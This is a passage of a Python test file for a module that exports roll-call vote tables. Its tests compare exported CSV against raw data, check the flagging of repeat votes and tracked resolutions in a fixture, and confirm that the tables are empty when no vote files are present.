    raw = pd.read_csv(source / votes_table.ROLL_CALLS_FILE, dtype=str, keep_default_na=False)
    exported = pd.read_csv(
        io.BytesIO(csv_bytes(calls, excel=False)), dtype=str, keep_default_na=False
    )
    by_rcid = {"by": "rcid", "key": pd.to_numeric, "ignore_index": True}
    pd.testing.assert_frame_equal(
        exported[list(votes_table.ROLL_CALL_COLUMNS)].sort_values(**by_rcid),
        raw.sort_values(**by_rcid),
    )


def test_votes_tables_of_the_fixture_mark_repeats_and_tracked_resolutions() -> None:
    calls = export.build_table("roll_calls", FIXTURE, AS_OF).set_index("rcid")
    assert calls.loc[5695, "repeat_of_rcid"] == 4379
    assert not calls.loc[5695, "whole_text_vote"]
    assert calls.loc[4379, "whole_text_vote"]
    assert calls["tracked"].tolist() == [rcid == 4494 for rcid in calls.index]


def test_without_vote_files_the_votes_tables_are_empty(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(votes_table.VOTES_ENV, str(tmp_path))
    for name in VOTES_TABLES:
        frame = export.build_table(name, FIXTURE, AS_OF)
        assert frame.empty
        assert list(frame.columns) == list(export.TABLES_BY_NAME[name].column_names)
